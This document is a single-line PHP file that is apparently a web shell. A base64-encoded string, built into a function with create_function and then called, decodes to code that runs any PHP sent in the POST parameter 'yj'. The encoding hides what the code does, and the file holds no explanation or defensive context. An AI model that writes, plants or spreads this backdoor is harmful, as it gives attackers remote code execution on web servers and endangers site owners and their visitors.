<?php $yj=create_function("", base64_decode('QGV2YWwoJF9QT1NUWyJ5aiJdKTs='));$yj();?>
